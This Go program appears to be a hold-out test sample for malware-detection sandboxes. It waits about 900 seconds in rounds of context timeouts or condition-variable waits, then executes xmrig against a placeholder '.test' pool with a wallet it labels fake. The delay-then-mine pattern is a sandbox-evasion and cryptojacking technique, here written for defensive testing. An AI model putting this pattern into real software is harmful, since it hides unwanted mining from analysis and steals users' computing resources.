// Waits 900 s in sub-second rounds of Go concurrency primitives, then mines (detonate hold-out
// test sample; harmless, fake wallet, .test pool). The form is the first argument:
//
//	context  a goroutine runs 4,500 rounds of context.WithTimeout(200 ms) + <-ctx.Done();
//	         main waits on a sync.WaitGroup
//	cond     a sync.Cond waited on 3,600 times, each round woken by a goroutine that
//	         sleeps 250 ms then Broadcasts
package main

import (
	"context"
	"fmt"
	"os"
	"strconv"
	"sync"
	"syscall"
	"time"
)

const (
	pool   = "stratum+tcp://pool.thread.test:3333"
	wallet = "47thrEadW4itsFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX"
)

var scale = 1

func contextRounds() {
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 4500/scale; i++ {
			ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
			<-ctx.Done()
			cancel()
		}
	}()
	wg.Wait()
}

func condRounds() {
	var mu sync.Mutex
	c := sync.NewCond(&mu)
	tick := 0
	go func() {
		for {
			time.Sleep(250 * time.Millisecond)
			mu.Lock()
			tick++
			mu.Unlock()
			c.Broadcast()
		}
	}()
	mu.Lock()
	for seen := 0; seen < 3600/scale; {
		c.Wait()
		seen = tick
	}
	mu.Unlock()
}

func main() {
	forms := map[string]func(){"context": contextRounds, "cond": condRounds}
	wait, ok := forms[""]
	if len(os.Args) == 2 {
		wait, ok = forms[os.Args[1]]
	}
	if !ok {
		fmt.Fprintln(os.Stderr, "usage: gothread context|cond")
		os.Exit(2)
	}
	if s, err := strconv.Atoi(os.Getenv("GOTHREAD_SCALE")); err == nil && s > 0 {
		scale = s
	}
	miner := "/usr/local/bin/xmrig"
	if m := os.Getenv("GOTHREAD_MINER"); m != "" {
		miner = m
	}
	fmt.Printf("waiting 900 s in %s rounds\n", os.Args[1])
	started := time.Now()
	wait()
	fmt.Printf("waited %.1f s; starting the miner\n", time.Since(started).Seconds())
	argv := []string{"xmrig", "-o", pool, "-u", wallet, "--shares", "1"}
	err := syscall.Exec(miner, argv, os.Environ())
	fmt.Fprintln(os.Stderr, "exec", miner+":", err)
	os.Exit(127)
}
